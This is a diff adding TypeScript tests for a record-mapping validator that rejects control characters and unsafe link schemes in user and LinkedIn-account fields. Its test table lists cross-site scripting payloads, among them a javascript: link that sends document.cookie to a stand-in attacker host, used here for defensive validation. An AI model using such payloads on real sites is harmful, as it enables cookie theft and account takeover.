@@ -314,3 +314,66 @@ describe("mapRecord: transactions", () => {
     );
   });
 });
+
+describe("mapRecord: control characters and links", () => {
+  const customer = (fields: Record<string, unknown>) => ({
+    UID: "uid-1",
+    Email: "ann@example.com",
+    Name: "Ann Example",
+    ...fields,
+  });
+
+  it("refuses a record whose text holds a control character, naming the field and the character", () => {
+    // U+0000 is what PostgreSQL refuses in text: written, it failed the page's whole write.
+    expect(problem("linkedinAccounts", account({ Notes: "ok\u0000not ok" }))).toBe(
+      "Notes: holds the control character U+0000",
+    );
+    expect(problem("users", customer({ Name: "Ann\u001b[31m" }))).toBe(
+      "Name: holds the control character U+001B",
+    );
+    expect(problem("profileOptimizations", { "About Section": "bell\u0007" })).toMatch(
+      /^About Section: holds the control character U\+0007$/,
+    );
+  });
+
+  it("keeps tabs and line breaks, which notes and sections are written with", () => {
+    expect(values("linkedinAccounts", account({ Notes: "one\ttwo\r\nthree\nfour" })).notes).toBe(
+      "one\ttwo\r\nthree\nfour",
+    );
+  });
+
+  it("takes http and https links, and an address typed without its scheme as https", () => {
+    const v = values(
+      "users",
+      customer({
+        "Onboarding URL": "https://onboarding.example.com/ann",
+        "Optimization URL": "http://forms.example.com/x",
+        "Profile Image URL": [{ url: "https://cdn.example.com/ann.png" }],
+      }),
+    );
+    expect(v.onboardingUrl).toBe("https://onboarding.example.com/ann");
+    expect(v.optimizationUrl).toBe("http://forms.example.com/x");
+    expect(v.profileImageUrl).toBe("https://cdn.example.com/ann.png");
+    expect(values("linkedinAccounts", account({ "Profile URL": "www.linkedin.com/in/ann" })).profileUrl).toBe(
+      "https://www.linkedin.com/in/ann",
+    );
+  });
+
+  it.each([
+    ["users", "Onboarding URL", "javascript:alert(document.cookie)"],
+    ["users", "Optimization URL", "JavaScript:alert(1)"],
+    ["users", "Profile Image URL", "data:image/svg+xml,<svg onload=alert(1)>"],
+    ["linkedinAccounts", "Profile URL", "javascript:fetch('//evil.example/'+document.cookie)"],
+    ["profileOptimizations", "Profile URL", "vbscript:msgbox(1)"],
+  ] as const)("refuses a %s record whose %s is %s", (table, field, link) => {
+    const fields =
+      table === "users"
+        ? customer({ [field]: link })
+        : table === "linkedinAccounts"
+          ? account({ [field]: link })
+          : { [field]: link };
+    expect(problem(table, fields)).toMatch(
+      new RegExp(`^${field}: must be a web address starting with https://`),
+    );
+  });
+});
